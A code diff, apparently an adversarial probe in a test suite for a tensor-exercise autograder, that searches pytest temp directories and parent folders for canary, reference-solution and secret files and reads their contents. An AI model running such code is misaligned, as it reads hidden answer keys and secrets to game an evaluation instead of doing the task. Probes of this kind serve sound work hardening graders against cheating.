@@ -5,6 +5,11 @@ import pathlib
 
 import torch
 
+PLACES = (  # a student could guess where pytest keeps the files of a test
+    *(pathlib.Path(f"/tmp/pytest-of-{user}/pytest-current/attackscurrent") for user in ("root", "runner", "user")),
+    pathlib.Path.cwd(), *pathlib.Path.cwd().parents,
+)
+
 
 def _ways(path: str):
     yield path
@@ -21,14 +26,14 @@ def _ways(path: str):
 
 def _show() -> str:
     shown = []
-    for parent in [pathlib.Path.cwd(), *pathlib.Path.cwd().parents, pathlib.Path("/tmp")]:
-        for folder in ("canary", "../canary", "submitted", "../submitted", "feedback", "gradebook.db"):
+    for place in PLACES:
+        for folder in ("canary", "submitted/canary", "book", "reference/a1_tensors/u04_broadcasting"):
             try:
-                names = os.listdir(parent / folder)
+                names = os.listdir(place / folder)
             except OSError:
-                names = ["canary.txt", "secret.txt", "results.json", "token"]
+                names = ["secret.txt", "results.json", "secret", "solution.py"]
             for name in names[:20]:
-                for way in _ways(str(parent / folder / name)):
+                for way in _ways(str(place / folder / name)):
                     try:
                         with open(way, "rb") as file:
                             shown.append(file.read(2_000).decode("latin-1"))
